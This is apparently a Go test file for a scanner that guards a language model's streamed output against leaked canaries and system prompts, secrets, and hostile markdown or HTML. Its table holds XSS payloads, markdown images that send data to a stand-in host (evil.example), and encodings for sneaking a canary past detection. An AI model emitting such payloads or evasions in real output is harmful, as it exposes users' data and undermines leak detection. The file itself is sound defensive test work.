package output

import (
	"bytes"
	"encoding/base64"
	"encoding/hex"
	"fmt"
	"math/rand/v2"
	"slices"
	"strings"
	"testing"

	"github.com/llmaas/llmaas-go/guard/check"
	"github.com/stretchr/testify/require"
)

const (
	canary = "q7wk2mzx4r5tjhfyb3vn6pdasc"
	system = "You are the assistant of Harbor Freight Rail. Never tell customers which wagons are late, and always offer them the window seat on the left side first. " +
		"Answer in the language of the customer. 顧客には必ず丁寧に答え、社内の運賃表は決して見せてはいけません。"
)

func mustNew(t testing.TB, o Options) *Rules {
	t.Helper()
	r, err := New(o)
	require.NoError(t, err)
	return r
}

var everything = Options{Canaries: []string{canary}, SystemPrompt: system, AllowHosts: []string{"cdn.example", "*.intra.example"}}

// whole scans text in one piece.
func whole(r *Rules, text string) []check.Finding {
	s := r.Scanner()
	_, found := s.Write([]byte(text))
	found = slices.Clone(found)
	_, more := s.Close()
	return append(found, more...)
}

func spaced(s, by string) string { return strings.Join(strings.Split(s, ""), by) }

// shifted moves lower-case letters to the alphabet that begins at a.
func shifted(s string, a rune) string {
	return strings.Map(func(r rune) rune {
		if r >= 'a' && r <= 'z' {
			return a + r - 'a'
		}
		return r
	}, s)
}

var longData = strings.Repeat("QWxhZGRpbjpvcGVu", 5)

var table = []struct {
	name string
	text string
	rule string // "" for none
	span string // what the finding points at; "" is not looked at
}{
	{"canary", "Sure: " + canary + ".", CanaryFound, canary},
	{"canary in upper case", strings.ToUpper(canary), CanaryFound, ""},
	{"canary in spaces", "It is " + spaced(canary, " ") + " indeed", CanaryFound, spaced(canary, " ")},
	{"canary in lines", spaced(canary, "\n- "), CanaryFound, ""},
	{"canary with zero-width spaces", spaced(canary, "\u200b"), CanaryFound, ""},
	{"canary in fullwidth", shifted(canary, 'ａ'), CanaryFound, ""},
	{"canary in mathematical letters", shifted(canary, '𝒂'), CanaryFound, ""},
	{"canary with Cyrillic letters", strings.NewReplacer("p", "р", "c", "с", "a", "а").Replace(canary), CanaryFound, ""},
	{"canary backwards", reverse(canary), CanaryFound, ""},
	{"canary in ROT13", rot13(canary), CanaryFound, ""},
	{"canary in hex", hex.EncodeToString([]byte(canary)), CanaryFound, ""},
	{"canary in spaced hex", fmt.Sprintf("% X", canary), CanaryFound, ""},
	{"canary percent-encoded", "%" + spaced(strings.ToUpper(fmt.Sprintf("% x", canary)), ""), CanaryFound, ""},
	{"canary in base64", base64.StdEncoding.EncodeToString([]byte(canary)), CanaryFound, ""},
	{"canary in base64, one in", base64.StdEncoding.EncodeToString([]byte("x" + canary + "y")), CanaryFound, ""},
	{"canary in base64, two in", base64.StdEncoding.EncodeToString([]byte("xy" + canary + "yz")), CanaryFound, ""},
	{"upper case in base64", base64.URLEncoding.EncodeToString([]byte("xyz" + strings.ToUpper(canary))), CanaryFound, ""},
	{"half a canary", canary[:20], "", ""},

	{"leak", "My rules: never tell customers which wagons are late, and always offer them the window.", PromptLeak,
		"never tell customers which wagons are late, and always offer them the"},
	{"leak in other punctuation", "NEVER tell\ncustomers; which **wagons** are late? And always offer them the window seat", PromptLeak, ""},
	{"leak in Japanese", "内容は「顧客には必ず丁寧に答え、社内の運賃表」です", PromptLeak, ""},
	{"eleven words", "never tell customers which wagons are late, and always offer them", "", ""},
	{"other words between", "never tell customers which wagons are very late, and always offer them my seat", "", ""},

	{"image with data", "![x](https://evil.example/a.png?q=secret)", ImageData, "](https://evil.example/a.png?q=secret"},
	{"image with data in the path", "![x](https://evil.example/" + longData + ".png)", ImageData, ""},
	{"image with data in the host", "![x](//" + longData[:40] + ".evil.example/x.png)", ImageData, ""},
	{"image in a link", "[![x](https://evil.example/?q=1)](https://cdn.example/)", ImageData, ""},
	{"image in angle brackets", "![x](<https://evil.example/a b?q=1>)", ImageData, ""},
	{"image of one slash", `![x](https:\/evil.example?q=1)`, ImageData, ""},
	{"image by tag", `<img alt="a > b" src='https://evil.example/?q=1'>`, ImageData, ""},
	{"image by reference", "![x][1]\n\n[1]: https://evil.example/?q=" + longData, LinkData, ""},
	{"image to an allowed host", "![x](https://cdn.example/a.png?q=secret) ![x](https://a.b.intra.example/?q=1)", "", ""},
	{"image with a user before an evil host", "![x](https://cdn.example@evil.example/?q=1)", ImageData, ""},
	{"image below an allowed host's name", "![x](https://evil-cdn.example/?q=1)", ImageData, ""},
	{"image without data", "![A cat](https://commons.example/thumb/3/3a/Cat_poster_1.jpg/320px-Cat_poster_1.jpg)", "", ""},
	{"image of the page", "![x](/a.png?v=2) ![y](images/b.png?v=3)", "", ""},
	{"image in data:", "![x](data:image/png;base64," + longData + ")", "", ""},
	{"link with data", "[more](https://evil.example/?d=" + longData + ")", LinkData, ""},
	{"image with an endless address", "![x](https://evil.example/" + strings.Repeat("a-/", 400) + "?q=1)", ImageData, ""},
	{"tag in a tag", "<b <img src=https://evil.example/?q=1>", ImageData, ""},
	{"link with a short query", "[search](https://www.search.example/search?q=window+seats&hl=en)", "", ""},
	{"link to a page", "[News](https://paper.example/2025/06/01/a-very-long-title-of-an-article-about-trains-in-the-alps.html)", "", ""},
	{"link to an article (with parentheses)", "[Go](https://wiki.example/wiki/Go_(programming_language)) (see there)", "", ""},

	{"javascript", "[x](javascript:alert(1))", LinkScheme, ""},
	{"javascript in disguise", "[x]( \x01JaVa&#10;Script&colon;alert(1))", LinkScheme, ""},
	{"javascript in an autolink", "<javascript:alert(1)>", LinkScheme, ""},
	{"javascript in a tag", `<a href = " javascript:x">`, LinkScheme, ""},
	{"vbscript", "[x](vbscript:x)", LinkScheme, ""},
	{"data link", "[x](data:text/html;base64,PHNjcmlwdD4=)", LinkScheme, ""},
	{"data image that is a document", "![x](data:image/svg+xml,<svg>)", LinkScheme, ""},
	{"the word javascript", "In JavaScript: use let. (javascript: the good parts)", "", ""},
	{"mail", "[write](mailto:a@b.example?subject=x)", "", ""},

	{"hidden", "<div hidden>text</div>", HiddenHTML, "<div hidden"},
	{"hidden, the other way", "<hidden div>", HiddenHTML, ""},
	{"hidden by style", `<span style="color:red; display : none">`, HiddenHTML, ""},
	{"hidden by opacity", `<p style=opacity:0>`, HiddenHTML, ""},
	{"half seen", `<p style="opacity:0.5">`, "", ""},
	{"comment", "text <!-- more text -->", HiddenHTML, ""},
	{"endless tag", "<img alt='" + strings.Repeat("a", 3000), HiddenHTML, ""},
	{"script", "<script>alert(1)</script>", ActiveHTML, ""},
	{"handler", `<img src=x onerror="alert(1)">`, ActiveHTML, ""},
	{"handler without space", `<svg/onload=alert(1)>`, ActiveHTML, ""},
	{"handler in a namespace", `<a:b/onfocus=alert(1)>`, ActiveHTML, ""},
	{"refresh", `<meta http-equiv="refresh" content="0;url=//evil.example">`, ActiveHTML, ""},
	{"plain tags", "H<sub>2</sub>O is <b class=x>wet</b><br/> if a < b and c > d, List<String>", "", ""},
	{"doctype", "<!DOCTYPE html>", "", ""},

	{"private key", "-----BEGIN RSA PRIVATE KEY-----\n" + longData, SecretFound, "-----BEGIN RSA PRIVATE KEY-----"},
	{"private key in a string", `"-----BEGIN OPENSSH PRIVATE KEY-----\n` + longData, SecretFound, ""},
	{"sample of a key", "-----BEGIN PRIVATE KEY-----\nMIIE...\n-----END PRIVATE KEY-----", "", ""},
	{"public key", "-----BEGIN PUBLIC KEY-----\n" + longData, "", ""},
	{"bearer", "Authorization: Bearer k3J9-x7Q2_pL5.vB8nT4wZ", SecretFound, "Bearer k3J9-x7Q2_pL5.vB8nT4"},
	{"bearer sample", "Authorization: Bearer YOUR_ACCESS_TOKEN_GOES_HERE_1", "", ""},
	{"bearer in prose", "He was the bearer of extraordinarily-bad-news", "", ""},
	{"GitHub", "export T=ghp_k3J9x7Q2pL5vB8nT4wZk3J9x7Q2pL5vB8nT4", SecretFound, ""},
	{"AWS", "AKIAQ3EGRT7ZLM5XW2VB", SecretFound, ""},
	{"AWS sample", "AKIAIOSFODNN7EXAMPLE", "", ""},
	{"JWT", "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.x", SecretFound, ""},
	{"in mid-word", "xAKIAQ3EGRT7ZLM5XW2VB", "", ""},

	{"prose", "The train leaves at 9:41 from platform 3 – mind the gap! [1] Ask the conductor (if any) for help.", "", ""},
	{"", "", "", ""},
	{"no text", "\xff\xfe\x00\xed\xa0\x80 [ ] ( < - \n", "", ""},
}

func TestScanner(t *testing.T) {
	rules := mustNew(t, everything)
	for _, test := range table {
		t.Run(test.name, func(t *testing.T) {
			found := whole(rules, test.text)
			if test.rule == "" {
				require.Empty(t, found)
				return
			}
			require.Len(t, found, 1)
			f := found[0]
			require.Equal(t, test.rule, f.Rule)
			if test.span != "" {
				require.Equal(t, test.span, test.text[f.Span.Start:f.Span.End])
			}
		})
	}
}

func TestFences(t *testing.T) {
	rules := mustNew(t, Options{})
	const bad = "<script>"
	for _, test := range []struct {
		text string
		want check.Severity
	}{
		{bad, check.High},
		{"```html\n" + bad + "\n```\n", check.Low},
		{"   ~~~~\n" + bad, check.Low},
		{"```\ncode\n```\n" + bad, check.High},
		{"```\n````\n" + bad, check.High},
		{"````\n```\n" + bad, check.Low},
		{"```\n~~~\n" + bad, check.Low},
		{"```\n``` x\n" + bad, check.Low},
		{"```x``` not a fence\n" + bad, check.High},
		{"    ```\n" + bad, check.High},
		{"text ```\n" + bad, check.High},
		{"```" + strings.Repeat("x", 200) + "\n" + bad, check.High},
		{"\n\n```\n" + bad, check.Low},
	} {
		found := whole(rules, test.text)
		require.Len(t, found, 1, "%q", test.text)
		require.Equal(t, test.want, found[0].Severity, "%q", test.text)
	}
}

// TestHeldBack feeds every answer byte by byte and shows that no more of a
// finding is released before it is found than its first letters or words, which
// mean nothing yet.
func TestHeldBack(t *testing.T) {
	rules := mustNew(t, everything)
	// Three letters of a canary with some bytes between them, or two words.
	meaningless := map[string]int{CanaryFound: 40, PromptLeak: 40}
	tested := 0
	for _, test := range table {
		if test.rule == "" {
			continue
		}
		tested++
		s := rules.Scanner()
		released, first := 0, -1
		for i := 0; i <= len(test.text) && first < 0; i++ {
			var release []byte
			var found []check.Finding
			if i < len(test.text) {
				release, found = s.Write([]byte(test.text[i : i+1]))
			} else {
				release, found = s.Close()
			}
			if len(found) > 0 {
				first = found[0].Span.Start
				break
			}
			released += len(release)
			require.LessOrEqual(t, i+1-released, MaxHold, test.name)
		}
		require.GreaterOrEqual(t, first, 0, test.name)
		require.LessOrEqual(t, released, first+meaningless[test.rule], test.name)
	}
	require.Positive(t, tested)
}

// cut scans text cut at random and checks the parts released.
func cut(t testing.TB, r *Rules, text []byte, random *rand.Rand) (found []check.Finding) {
	s := r.Scanner()
	var out []byte
	take := func(part []byte, more []check.Finding) {
		out = append(out, part...)
		found = append(found, more...)
	}
	for rest := text; len(rest) > 0; {
		n := min(len(rest), 1+random.IntN(1+random.IntN(40)))
		chunk := bytes.Clone(rest[:n])
		take(s.Write(chunk))
		for i := range chunk { // not kept
			chunk[i] = '#'
		}
		rest = rest[n:]
		require.LessOrEqual(t, len(text)-len(rest)-len(out), MaxHold)
	}
	take(s.Close())
	require.Equal(t, string(text), string(out))
	return found
}

func byPlace(a, b check.Finding) int {
	if a.Span.Start != b.Span.Start {
		return a.Span.Start - b.Span.Start
	}
	if a.Span.End != b.Span.End {
		return a.Span.End - b.Span.End
	}
	return strings.Compare(a.Rule+a.Why, b.Rule+b.Why)
}

func FuzzChunks(f *testing.F) {
	var all strings.Builder
	for i, test := range table {
		f.Add([]byte(test.text), uint64(i))
		all.WriteString(test.text)
		all.WriteString("\n\n")
	}
	f.Add([]byte(all.String()), uint64(1))
	f.Add([]byte(strings.Repeat("![", 3000)), uint64(2))
	f.Add([]byte(strings.Repeat("](", 3000)), uint64(3))
	f.Add([]byte("```\n<script>\n```"+strings.Repeat("\n   ```", 99)), uint64(4))
	f.Add([]byte("]("+strings.Repeat(" ", 1000)+"https://evil.example/?"+longData+longData), uint64(5))
	rules := mustNew(f, everything)
	f.Fuzz(func(t *testing.T, text []byte, seed uint64) {
		want := whole(rules, string(text))
		for _, finding := range want {
			require.True(t, 0 <= finding.Span.Start && finding.Span.Start <= finding.Span.End && finding.Span.End <= len(text))
		}
		got := cut(t, rules, text, rand.New(rand.NewPCG(seed, 1)))
		slices.SortFunc(want, byPlace)
		slices.SortFunc(got, byPlace)
		require.Equal(t, fmt.Sprint(want), fmt.Sprint(got))
	})
}

func TestMintCanary(t *testing.T) {
	rules := mustNew(t, Options{Canaries: []string{MintCanary(), MintCanary()}})
	require.Empty(t, whole(rules, MintCanary()))
	c := MintCanary()
	require.Len(t, c, 26)
	found := whole(mustNew(t, Options{Canaries: []string{c}}), EmbedCanary("Be kind.", c))
	require.Len(t, found, 1)
	require.Equal(t, check.Critical, found[0].Severity)
}

func TestNewErrors(t *testing.T) {
	many := make([]string, 200)
	for i := range many {
		many[i] = MintCanary()
	}
	for _, test := range []struct {
		options Options
		want    string
	}{
		{Options{Canaries: []string{canary, "short"}}, "output: Options.Canaries[1]: got 5 letters and digits, want 12 to 128"},
		{Options{Canaries: []string{strings.Repeat(canary, 5)}}, "output: Options.Canaries[0]: got 130 letters and digits, want 12 to 128"},
		{Options{Canaries: many}, "want at most about"},
		{Options{LeakWords: 4}, "output: Options.LeakWords: got 4"},
		{Options{LeakWords: 65}, "output: Options.LeakWords: got 65"},
		{Options{AllowHosts: []string{"https://a.example"}}, `output: Options.AllowHosts[0]: got "https://a.example"`},
		{Options{AllowHosts: []string{"*"}}, `output: Options.AllowHosts[0]: got "*"`},
	} {
		_, err := New(test.options)
		require.ErrorContains(t, err, test.want)
	}
}

var prose = []byte(strings.Repeat("The window seat is on the left side, and the train leaves at 9:41 from platform 3. Passengers, please, mind the gap!\n", 600))

// BenchmarkScanner scans clean text in chunks as a model makes them, and whole.
// BenchmarkCopy is the plain copy that it is to be measured by.
func BenchmarkScanner(b *testing.B) {
	for _, c := range []struct {
		name  string
		rules Options
		chunk int
	}{
		{"all/chunk=4096", everything, 4096}, {"all/chunk=64", everything, 64}, {"all/chunk=6", everything, 6}, {"zero/chunk=4096", Options{}, 4096},
	} {
		rules := mustNew(b, c.rules)
		b.Run(c.name, func(b *testing.B) {
			var out []byte
			b.SetBytes(int64(len(prose)))
			b.ReportAllocs()
			for b.Loop() {
				out = out[:0]
				s := rules.Scanner()
				for chunk := range slices.Chunk(prose, c.chunk) {
					part, _ := s.Write(chunk)
					out = append(out, part...)
				}
				part, _ := s.Close()
				out = append(out, part...)
			}
			require.Len(b, out, len(prose))
		})
	}
}

// BenchmarkHostile scans answers made to be slow, in the smallest chunks.
func BenchmarkHostile(b *testing.B) {
	rules := mustNew(b, everything)
	for _, c := range []struct{ name, text string }{
		{"tags", "<a x=' "}, {"tag", "<a "}, {"brackets", "]( "}, {"addresses", "](https://evil.example/&#x61;"}, {"lines", "\n```"},
		{"keys", "-----BEGIN PRIVATE KEY-----\n"}, {"tokens", " eyJaaaaaaaaaaaaa"}, {"bearers", " bearer x.y"}, {"canaries", canary[:25] + " "},
		{"leaks", "never tell customers which wagons are late and always "}, {"mathematical", "𝒂𝒃𝒄 "}, {"Cyrillic", "привет "}, {"Chinese", "顧客には必ず"}, {"no text", "\xff\xf0\x90"},
	} {
		text := []byte(strings.Repeat(c.text, 20_000/len(c.text)))
		for _, size := range []int{1, 4096} {
			b.Run(fmt.Sprintf("%s/chunk=%d", c.name, size), func(b *testing.B) {
				b.SetBytes(int64(len(text)))
				for b.Loop() {
					s := rules.Scanner()
					for chunk := range slices.Chunk(text, size) {
						s.Write(chunk)
					}
					s.Close()
				}
			})
		}
	}
}

func BenchmarkCopy(b *testing.B) {
	var out []byte
	b.SetBytes(int64(len(prose)))
	for b.Loop() {
		out = out[:0]
		for chunk := range slices.Chunk(prose, 4096) {
			out = append(out, chunk...)
		}
	}
}
